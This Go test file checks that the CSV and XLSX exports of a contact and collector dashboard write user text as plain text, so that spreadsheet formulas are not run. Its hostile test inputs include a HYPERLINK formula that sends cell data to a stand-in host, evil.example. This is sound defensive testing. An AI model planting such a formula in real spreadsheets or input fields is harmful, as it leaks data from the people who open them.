package collect

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// hostile is user text (a contact's content, a collector's name) that a
// spreadsheet would run as a formula if it were written raw.
var hostile = []string{`=HYPERLINK("http://evil.example/?"&A1,"点击")`, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1"}

func TestWriteCSV_NeutralisesFormulas(t *testing.T) {
	var buf bytes.Buffer
	row := append([]string{"-12.50", "张三"}, hostile...)
	if err := writeCSV(&buf, func(emit func([]string) error) error { return emit(row) }); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil || len(got) != 1 {
		t.Fatalf("read back: %q, %v", got, err)
	}
	if got[0][0] != "-12.50" || got[0][1] != "张三" {
		t.Errorf("plain cells changed: %q", got[0][:2])
	}
	for i, h := range hostile {
		if c := got[0][2+i]; c != "'"+h {
			t.Errorf("cell %q written as %q, want it prefixed with a quote", h, c)
		}
	}
}

func TestWriteXLSX_WritesTextNotFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := writeXLSX(&buf, func(emit func([]string) error) error { return emit(hostile) }); err != nil {
		t.Fatal(err)
	}
	assertNoFormulas(t, buf.Bytes(), "contacts", hostile)
}

func TestDashboardXLSX_WritesNamesAsText(t *testing.T) {
	d := Dashboard{Collectors: []CollectorRow{{Name: hostile[0], Team: hostile[1]}}}
	var buf bytes.Buffer
	if err := d.WriteXLSX(&buf); err != nil {
		t.Fatal(err)
	}
	assertNoFormulas(t, buf.Bytes(), "催收员 Collectors", hostile[:2])
}

func assertNoFormulas(t *testing.T, xlsx []byte, sheet string, want []string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(xlsx))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	found := map[string]bool{}
	for r, row := range rows {
		for c, v := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
				t.Errorf("%s!%s holds formula %q", sheet, cell, fm)
			}
			if typ, _ := f.GetCellType(sheet, cell); v != "" && strings.ContainsAny(v[:1], "=+-@\t＝") && typ == excelize.CellTypeFormula {
				t.Errorf("%s!%s has type formula", sheet, cell)
			}
			found[v] = true
		}
	}
	for _, w := range want {
		if !found[w] {
			t.Errorf("%q not kept as text in %s; rows %q", w, sheet, rows)
		}
	}
}
